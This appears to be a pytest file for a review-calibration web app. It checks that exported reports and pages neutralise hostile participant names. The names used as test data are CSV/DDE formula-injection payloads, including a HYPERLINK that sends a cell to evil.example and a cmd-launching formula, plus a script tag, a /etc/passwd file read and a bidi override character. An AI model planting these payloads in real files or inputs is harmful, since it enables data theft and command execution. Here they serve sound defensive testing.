"""Files of a report about people, teams and bands whose names would run, load, or end a sentence."""

import csv
import io
import json
import re
import zipfile

import pytest

from ladder.db import db
from ladder.domain.stages import Stage
from ladder.models import Participant, Person
from ladder.services import calibration
from tests.cast import Cast
from tests.conftest import Inside
from tests.factories import NOW, REVIEWED, make_cycle
from tests.page import Pages

HOSTILE = (
    '=HYPERLINK("https://evil.example/?x="&A1)',
    "<script>alert(1)</script>",
    '#image("/etc/passwd") (QA)',
    "Sam King Jr.",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Ada\u202e nimda, “Ace”",
)
IDS = re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}")


def rate(author: str, subject: str, relation: object, competency: str) -> int:
    """Everybody differs a little, and Mona is harder."""
    return 3 + (len(subject + competency) % 2) - (author == "mona")


@pytest.fixture
def report(cast: Cast, inside: Inside) -> str:
    """The address of a report in which everybody has such a name, and so have their teams, managers and bands."""
    peers = {one: tuple(other for other in REVIEWED if other != one)[:4] for one in REVIEWED}
    with inside():
        cycle = make_cycle(cast, Stage.CALIBRATION, peers=peers, rate=rate)
        people = db.session.query(Participant).filter(Participant.cycle_id == cycle.id).order_by(Participant.name)
        for one, name in zip(people, HOSTILE, strict=True):
            one.name = name
            one.team_name, one.manager_name = f"-{name}", f"+{name}"
        for key, name in zip(("mona", "mark"), ("Mo (MD)", "=1+1"), strict=True):
            db.session.query(Person).filter(Person.id == cast.players[key].person_id).one().name = name
        db.session.flush()
        calibration.compute_report(cycle.org_id, cycle.id, now=NOW)
        return f"/o/acme/cycles/{cycle.id}/report"


def texts(pages: Pages, report: str, form: str) -> str:
    data = pages.client("petra").get(f"{report}.{form}").get_data()
    if form == "xlsx":
        with zipfile.ZipFile(io.BytesIO(data)) as book:
            return "".join(book.read(one).decode() for one in book.namelist() if one.endswith(".xml"))
    return data.decode()


@pytest.mark.parametrize("form", ["csv", "json", "xlsx"])
def test_a_file_without_names_has_no_part_of_one_and_no_id(pages: Pages, report: str, form: str) -> None:
    text = texts(pages, report, form)
    assert not [one for one in ("evil", "alert", "passwd", "King Jr", "cmd|", "nimda", "Mo (MD", "=1+1") if one in text]
    assert "Person 1" in text
    assert form == "xlsx" or not IDS.search(text)


def test_a_table_with_names_holds_no_formula(pages: Pages, report: str) -> None:
    page = pages.post("petra", f"{report}/with-names", {"form": "csv"}, status=200)
    rows = list(csv.reader(io.StringIO(page.response.get_data(as_text=True).removeprefix("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert any("evil.example" in cell for cell in cells)
    assert not [cell for cell in cells if cell[:1] in tuple("=+@\t\r") or re.match(r"-(?![\d.]+$)", cell)]


def test_a_workbook_with_names_holds_no_formula(pages: Pages, report: str) -> None:
    data = pages.post("petra", f"{report}/with-names", {"form": "xlsx"}, status=200).response.get_data()
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [book.read(one).decode() for one in book.namelist() if one.startswith("xl/worksheets/")]
    assert not [one for one in sheets if "<f>" in one or "hyperlink" in one]


def test_a_document_with_names_is_set_and_shows_them_as_words(pages: Pages, report: str) -> None:
    page = pages.post("petra", f"{report}/with-names", {"form": "pdf"}, status=200)
    assert page.response.get_data().startswith(b"%PDF-")
    assert b"root:" not in page.response.get_data()


def test_the_pages_show_such_names_as_words(pages: Pages, report: str) -> None:
    for path in ("", "/people", "/what-if", "/files"):
        html = pages.open("petra", report + path).response.get_data(as_text=True)
        assert "<script>alert" not in html
    assert json.loads(texts(pages, report, "json"))["people"]
